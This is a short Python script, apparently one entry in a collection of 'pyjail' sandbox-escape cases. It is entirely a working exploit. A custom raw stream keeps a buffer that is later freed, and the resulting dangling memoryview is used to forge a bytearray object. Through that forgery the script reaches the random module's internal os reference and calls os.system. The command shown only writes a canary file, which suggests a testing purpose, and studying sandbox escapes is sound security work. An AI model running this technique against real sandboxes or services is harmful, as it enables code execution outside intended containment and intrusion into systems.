# source: pyjail lore
# effect: process

# A raw stream keeps the buffer it was asked to fill; the buffer is freed with the reader, the view of it is not.
import io
import random


class Raw(io.RawIOBase):
    def readinto(self, buffer):
        views.append(buffer)
        return 0

    def readable(self):
        return True


views = []
reader = io.BufferedReader(Raw())
reader.read(1)
del reader
words = views[0].cast("P")
# The list's members take the place that was freed.
members = [0] * len(words)


def pack(*numbers):
    return b"".join(number.to_bytes(8, "little") for number in numbers)


# A bytearray made by hand, over the word of the module in which its dictionary stands.
fake = pack(9, id(bytearray), 8, 9, id(random) + 16, id(random) + 16, 0)
words[0] = id(fake) + 32
dictionary = int.from_bytes(members[0], "little")
words[0] = dictionary
members[0]["_os"].system("echo native/memoryview_after_free > /tmp/canary/process")
words[0] = id(0)
